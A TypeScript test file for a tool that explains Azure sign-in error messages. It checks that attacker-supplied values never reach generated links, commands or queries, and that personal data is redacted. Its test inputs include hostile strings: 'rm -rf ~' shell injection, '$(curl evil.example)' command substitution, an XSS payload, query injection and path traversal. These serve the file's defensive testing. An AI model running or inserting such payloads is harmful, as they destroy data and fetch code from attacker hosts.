import { describe, expect, test } from "vitest";
import type { ExplainedFinding } from "../../src/core/explanation";
import { isStrict } from "../../src/core/fill";
import { redactFacts } from "../../src/core/redact";
import { plain } from "../../src/core/rich-text";
import { displayable } from "../../src/core/values";
import { answerText } from "../../src/rules/answer";
import { answerPasted, ruleStore } from "./support/rule-files";

/** The message may be an attacker's: what it says is shown as text, and enters nothing that acts. */

const nasty = [
  "'; rm -rf ~; echo '",
  '" | take 1 // ',
  "$(curl evil.example)",
  "`id`",
  "</script><img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "00000000-0000-0000-0000-000000000000' or 1 eq 1",
  "00000000-0000-0000-0000-000000000000\nrm",
  "../../../evil",
  "evil.example/%2f..",
  "contoso.com@evil.example",
  "\u202egnp.exe",
  "a".repeat(5000),
];

const messageWith = (value: string) =>
  `AADSTS50011: The redirect URI '${value}' specified in the request does not match the redirect URIs configured for the application '${value}'. Trace ID: ${value} Correlation ID: ${value} Timestamp: ${value}`;

describe.each(nasty)("the value %s", (value) => {
  test("enters no link, command or query", async () => {
    const findings = await answerPasted(messageWith(value));
    expect(findings.length).toBeGreaterThan(0);
    for (const finding of findings) {
      const acting = JSON.stringify([
        finding.adminLinks,
        finding.adminQueries.map(({ run }) => run),
        finding.explanation.causes.flatMap(({ commands }) => commands.map(({ run }) => run)),
        linksIn(finding),
      ]);
      expect(acting).not.toContain(JSON.stringify(value).slice(1, -1));
      const sources = finding.explanation.sources.map(({ url }) => url); // the rule's own, whatever the message holds
      for (const url of linksIn(finding).filter((link) => !sources.includes(link)))
        expect(new URL(url).hostname).toMatch(
          /(?:^|\.)(?:microsoft\.com|azure\.com|microsoftonline\.com|aka\.ms|github\.com|powershellgallery\.com)$/,
        );
    }
  });

  test("fits no strict type", () => {
    for (const name of ["appId", "tenant", "correlationId", "timestamp", "deviceId", "userId", "servicePrincipalId"]) {
      expect(isStrict(name, value), name).toBe(false);
    }
  });
});

function linksIn(finding: ExplainedFinding): string[] {
  return [...JSON.stringify(finding).matchAll(/"url":"([^"]+)"/g)].map((match) => match[1] ?? "");
}

test("only the user of a query may be a user principal name", () => {
  expect(isStrict("user", "jane.doe@contoso.com")).toBe(true);
  expect(isStrict("tenant", "contoso.onmicrosoft.com")).toBe(true);
  expect(isStrict("tenant", "common")).toBe(false);
  expect(isStrict("redirectUri", "https://contoso.com")).toBe(false);
});

const genuine =
  "AADSTS50011: The redirect URI 'https://payroll.contoso.com/signin' specified in the request does not match the redirect URIs configured for the application 'c4c80de8-8312-4c94-82a9-e4ebf513b681'. Trace ID: 65c42635-e968-40a6-8738-8a01fed63c00 Correlation ID: 019f69b9-8434-7fd1-a138-35945764ecaf Timestamp: 2026-06-16 09:26:36Z";

test("text of a host that isn't Microsoft's has no filled links, commands or request", async () => {
  const [finding] = await answerText(
    ruleStore,
    genuine,
    { trust: "unconfirmed", host: "app.example" },
    "https://app.example/callback",
  );
  expect(finding?.request).toBeUndefined();
  expect(finding?.bundle).toBeUndefined();
  expect(finding?.adminQueries).toEqual([]);
  expect(finding?.explanation.causes.flatMap(({ commands }) => commands)).toEqual([]);
  for (const url of linksIn(finding as ExplainedFinding)) expect(url).not.toContain("c4c80de8");
});

test("the same text from a Microsoft page has them, and names the app's id only where it is a GUID", async () => {
  const [finding] = await answerText(ruleStore, genuine, { trust: "microsoft", host: "login.microsoftonline.com" });
  expect(finding?.request?.body).toContain("c4c80de8-8312-4c94-82a9-e4ebf513b681");
  expect(linksIn(finding as ExplainedFinding).some((url) => url.includes("c4c80de8"))).toBe(true);
  expect(finding?.adminQueries[0]?.run).toContain('CorrelationId == "019f69b9-8434-7fd1-a138-35945764ecaf"');
});

test("a fix that widens trust is asked for as a check, with its verification first", async () => {
  const findings = await answerText(ruleStore, genuine, { trust: "microsoft", host: "login.microsoftonline.com" });
  const widening = findings.flatMap(({ explanation }) => explanation.causes).filter(({ widens }) => widens);
  expect(widening.length).toBeGreaterThan(0);
  for (const cause of widening) expect(plain(cause.ask ?? [])).toMatch(/^Please (?:check whether|investigate)/);
});

describe("redaction", () => {
  const facts = {
    user: "jane@contoso.com",
    ipAddress: "203.0.113.42",
    deviceId: "0d9c74ce-0d58-40aa-9614-8e62f7909738",
    redirectUri: "https://payroll.contoso.com/signin?code=1",
    appName: "Mail of jane@contoso.com",
    correlationId: "019f69b9-8434-7fd1-a138-35945764ecaf",
  };

  test("takes out people, devices and the rest of addresses, and says so", () => {
    const { facts: shared, leftOut } = redactFacts(facts);
    expect(shared).toEqual({
      redirectUri: "https://payroll.contoso.com/…",
      appName: "Mail of [account]",
      correlationId: facts.correlationId,
    });
    expect(leftOut).toEqual(["user", "ipAddress", "deviceId", "redirectUri", "appName"]);
  });

  test("a second time changes nothing", () => {
    const once = redactFacts(facts).facts;
    expect(redactFacts(once).facts).toEqual(once);
  });

  test("an address whose host is an IP address goes whole", () => {
    expect(redactFacts({ redirectUri: "http://192.168.0.60:3838/signin-oidc" }).facts).toEqual({
      redirectUri: "http://…",
    });
  });
});

test("shown values are on one line, without control or bidirectional characters, and short", () => {
  expect(displayable("a\u202e\u0000b\nc")).toBe("ab c");
  expect(displayable("x".repeat(100), 60)).toHaveLength(60);
});
